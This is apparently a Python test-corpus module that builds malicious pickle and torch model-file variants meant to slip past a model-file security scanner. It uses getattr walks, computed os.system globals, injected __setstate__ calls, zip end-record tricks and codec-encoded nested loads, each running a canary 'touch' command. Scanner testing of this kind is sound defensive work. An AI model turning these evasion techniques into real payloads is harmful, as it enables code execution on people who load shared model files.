"""Variants written against the issue-9 scanner itself: an attacker who read its new code.

Each one leans on a mechanism that code added, where a slip in the model of the loader
would let a payload through:

* ``getattr(global, "name")`` is judged as the walk ``global.name`` (how protocol 2 pickles
  ``torch.relu``): walk to ``torch.from_file`` (not an operator the tables list), chains of
  getattr through torch's own module attributes;
* a module name that cannot be imported stops CPython, except for a storage class name,
  which torch resolves without importing; ``STACK_GLOBAL`` of text an allow-listed
  constructor returns; ``PUT``/``GET`` text with underscores; a ``__setstate__`` put in
  place by ``BUILD`` and called by the next one;
* a global computed at load time is only suspicious while nothing calls it, and constants
  set on an allow-listed class by ``BUILD`` are only suspicious: the computed global set as
  a class's or an instance's ``__setstate__``, or passed to ``_rebuild_from_type_v2``;
* the end record searched as miniz searches it (past 64 KiB of comment);
* nested-load bytes built from integers written in hexadecimal, or with a codec the
  evaluator does or does not know;
* GraphModule code reaching torch.save through ``getattr`` with a constant name, or in the
  ``code`` key read when ``_code`` is empty;
* benign: ``torch.save`` of activation functions (protocol 2 writes them with getattr).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from corpus._opcodes import Asm

from .archives import Member, torch_zip, zip_bytes
from .code import graph_module_stream
from .compose import LOADERS_OF, slug
from .harness import CANARY
from .pickles import Payload, constant_stream, payload_stream
from .variants import Variant

__all__ = ["rereading_variants"]

_OS_SYSTEM = Payload.direct("os.system")
_TOUCH = f"touch {CANARY}"


def _v(klass: str, name: str, data: bytes, container: str, note: str = "") -> Variant:
    full = f"{klass}/reread/{name}"
    ext = ".pkl" if container in ("raw", "nested") else ".pt"
    return Variant(full, klass, slug(full, ext), data, LOADERS_OF[container], note=note)


def _getattr(asm: Asm) -> Asm:
    return asm.global_("builtins", "getattr")


def _walks() -> Iterator[Variant]:
    # getattr(torch._C._VariableFunctionsClass, "from_file")(CANARY, True, 4): the ATen op
    # that maps (and creates) a file, the one excluded from the operator table.
    asm = _getattr(Asm(2)).global_("torch._C", "_VariableFunctionsClass").value("from_file")
    asm.tuple2().reduce().value((CANARY, True, 4)).reduce().pop().value({}).stop()
    yield _v("1-walk", "getattr-from-file", asm.data, "raw")
    yield _v("1-walk", "getattr-from-file-zip", torch_zip(asm.data), "zip")
    # getattr(getattr(torch._utils, "logging"), "FileHandler")(CANARY): a chain of getattr
    # through what torch's own modules import.
    asm = _getattr(_getattr(Asm(2))).global_("torch", "_utils").value("logging").tuple2()
    asm.reduce().value("FileHandler").tuple2().reduce().value((CANARY,)).reduce()
    yield _v("1-walk", "getattr-chain-filehandler", asm.pop().value({}).stop().data, "raw")


def _semantics() -> Iterator[Variant]:
    # torch's find_class resolves any "*Storage" name without importing the module: a
    # module name CPython could not import does not stop torch.load.
    data = Asm(2).raw(b"c!!! not a module\nFloatStorage\n0").data
    stream = data + payload_stream(_OS_SYSTEM, CANARY, protocol=2)[2:]
    yield _v("5-semantics", "storage-name-any-module", torch_zip(stream), "zip")
    # STACK_GLOBAL of text builtins.str returns (allow-listed): computed at load time.
    asm = Asm(4).global_("builtins", "str").value((b"os", "ascii")).reduce()
    asm.value("system").stack_global().value((_TOUCH,)).reduce().pop().value({}).stop()
    yield _v("5-semantics", "stack-global-of-str-result", asm.data, "raw")
    # PUT/GET text as PyLong_FromString(s, 10) reads it ("0_7" is 7).
    asm = Asm(2).global_("os", "system").raw(b"p0_7\n0g7\n").value((_TOUCH,)).reduce()
    yield _v("5-semantics", "put-underscore", asm.pop().value({}).stop().data, "raw")
    # BUILD puts __setstate__ on an allow-listed instance; the next BUILD calls it.
    asm = Asm(2).global_("argparse", "Namespace").empty_tuple().reduce()
    asm.empty_dict().value("__setstate__").global_("os", "system").setitem().build()
    asm.value(_TOUCH).build().pop().value({}).stop()
    yield _v("5-semantics", "build-setstate-namespace", asm.data, "raw")


def _computed_os_system(asm: Asm) -> Asm:
    """``STACK_GLOBAL(str(b"os", "ascii"), "system")``: a global no scanner can name."""
    asm.global_("builtins", "str").value((b"os", "ascii")).reduce()
    return asm.value("system").stack_global()


def _class_setstate(slot: Callable[[Asm], Asm], name: str) -> Variant:
    """BUILD on the allow-listed class itself sets ``Namespace.__setstate__`` (a Python
    class without one: CPython setattr()s the slot state); the next instance's BUILD calls
    it with the stream's text."""
    asm = Asm(4).global_("argparse", "Namespace").none().empty_dict().value("__setstate__")
    slot(asm).setitem().tuple2().build().pop()
    asm.global_("argparse", "Namespace").empty_tuple().reduce()
    asm.value(_TOUCH).build().pop().value({}).stop()
    return _v("5-semantics", name, asm.data, "raw")


def _computed() -> Iterator[Variant]:
    # A named-only computed global is suspicious; whatever calls it later must be seen.
    yield _class_setstate(lambda a: a.global_("os", "system"), "build-slots-on-allowed-class")
    yield _class_setstate(_computed_os_system, "build-slots-computed-on-allowed-class")
    # An instance's __setstate__ set to the computed global, called by the next BUILD.
    asm = Asm(4).global_("argparse", "Namespace").empty_tuple().reduce()
    _computed_os_system(asm.empty_dict().value("__setstate__")).setitem().build()
    asm.value(_TOUCH).build().pop().value({}).stop()
    yield _v("5-semantics", "computed-global-as-setstate", asm.data, "raw")
    # _rebuild_from_type_v2(func, new_type, args, state) calls func(*args).
    asm = _computed_os_system(Asm(4).global_("torch._tensor", "_rebuild_from_type_v2").mark())
    asm.global_("torch", "Tensor").value((_TOUCH,)).empty_dict().tuple().reduce()
    yield _v("2-caller", "computed-global-rebuild-v2", asm.pop().value({}).stop().data, "raw")


def _zips() -> Iterator[Variant]:
    # The end record 69 KiB from the end (a full comment, then 4000 bytes): miniz's backward
    # search in 4 KiB chunks reaches it, a reader looking at the last 64 KiB + 22 does not.
    evil = payload_stream(_OS_SYSTEM, CANARY)
    archive = zip_bytes(
        [Member("archive/data.pkl", evil), Member("archive/version", b"3\n")],
        comment=b"c" * 0xFFFF,
    )
    yield _v("3-zip", "end-record-past-64k", archive + bytes(4000), "zip")
    # A comment full of end-record signatures before the real one.
    good = constant_stream({"a": 1})
    decoys = b"PK\x05\x06" * 4000
    archive = zip_bytes(
        [
            Member("archive/data.pkl", good),
            Member("archive/extra/x", evil),
            Member("archive/version", b"3\n"),
        ],
        comment=decoys,
    )
    yield _v("3-zip", "signatures-in-comment", archive, "zip")


def _nested() -> Iterator[Variant]:
    inner = torch_zip(payload_stream(_OS_SYSTEM, CANARY))
    # bytes([...]) of integers written as INT text in hexadecimal (CPython: strtol base 0).
    asm = Asm(2).global_("torch.storage", "_load_from_bytes").global_("builtins", "bytes")
    asm.empty_list().raw(b"(" + b"".join(b"I0x%x\n" % b for b in inner) + b"e").tuple1().reduce()
    yield _v(
        "6-nested", "bytes-of-hex-ints", asm.tuple1().reduce().pop().value({}).stop().data, "nested"
    )
    for codec in ("cp437", "iso-8859-1", "mac-roman"):
        text = inner.decode(codec.replace("-", "_"))
        asm = Asm(4).global_("torch.storage", "_load_from_bytes").global_("_codecs", "encode")
        asm.text(text).text(codec).tuple2().reduce().tuple1().reduce().pop().value({}).stop()
        yield _v("6-nested", f"codec-{codec}", asm.data, "nested")


def _code() -> Iterator[Variant]:
    forward = "\n\n\ndef forward(self, x):\n    return x\n"
    via_getattr = f"\ngetattr(torch, 'save')(0, {CANARY!r})\n" + forward
    stream = graph_module_stream(via_getattr, "import torch\n")
    yield _v("7-code", "gm-getattr-torch-save", stream, "raw")
    yield _v("7-code", "gm-getattr-torch-save-zip", torch_zip(stream), "zip")
    # reduce_graph_module reads body["_code"] or body["code"]: an empty _code hides nothing.
    asm = Asm(4).global_("torch.fx.graph_module", "reduce_graph_module")
    body = {"_code": "", "code": f"\nimport os\nos.system('touch {CANARY}')\n" + forward}
    asm.value(body).value("import torch\n").tuple2().reduce().pop().value({}).stop()
    yield _v("7-code", "gm-empty-code-key", asm.data, "raw")


def _benign() -> Iterator[Variant]:
    import io

    import torch

    for zip_format in (True, False):
        buf = io.BytesIO()
        config = {"act": torch.tanh, "gate": torch.sigmoid, "fn": torch.nn.functional.gelu}
        torch.save(config, buf, _use_new_zipfile_serialization=zip_format)
        container = "zip" if zip_format else "legacy"
        name = f"benign/reread/activations-{container}"
        yield Variant(
            name,
            "benign",
            slug(name, ".pt"),
            buf.getvalue(),
            LOADERS_OF[container],
            malicious=False,
            note="protocol 2 pickles torch.tanh as getattr(_VariableFunctionsClass, 'tanh')",
        )


def rereading_variants() -> Iterator[Variant]:
    """Every variant of this module."""
    yield from _walks()
    yield from _semantics()
    yield from _computed()
    yield from _zips()
    yield from _nested()
    yield from _code()
    yield from _benign()
